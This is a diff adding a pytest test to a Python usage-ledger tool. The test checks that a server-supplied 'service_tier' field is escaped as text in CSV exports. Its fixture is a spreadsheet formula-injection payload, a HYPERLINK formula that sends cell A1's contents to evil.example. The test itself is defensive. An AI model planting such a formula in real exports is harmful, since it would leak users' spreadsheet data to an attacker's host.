@@ -277,3 +277,25 @@ def test_unix_seconds_on_the_command_line_are_a_time(ledger_db, capsys):
     capsys.readouterr()
     with pytest.raises(InputError, match="since=True is not a time"):
         UsageFilters.build({"since": True})
+
+
+def test_a_vendors_service_tier_is_made_text_in_the_csv_too(tmp_path, monkeypatch, capsys):
+    # service_tier is what the answering server says (a compat or local server the caller may name): it
+    # reached the export as it came, a formula included
+    db = tmp_path / "tier.db"
+    monkeypatch.setenv("MAGSAG_DB", str(db))
+    now = time.time()
+    tier = '=HYPERLINK("http://evil.example/?q="&A1,"priority")'
+
+    async def fill() -> None:
+        async with Ledger(db) as ledger:
+            run = RunRecord("run-1", "agent", "skill.analysis", now)
+            attempt = AttemptRecord(
+                "run-1", now, "local", "llama3", "skill.analysis", "agent", "ok", 0, 1, service_tier=tier
+            )
+            await ledger.record_call(run, [attempt])
+
+    anyio.run(fill)
+    assert main(["data", "query", "--format", "csv"]) == 0
+    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert row["service_tier"] == "'" + tier
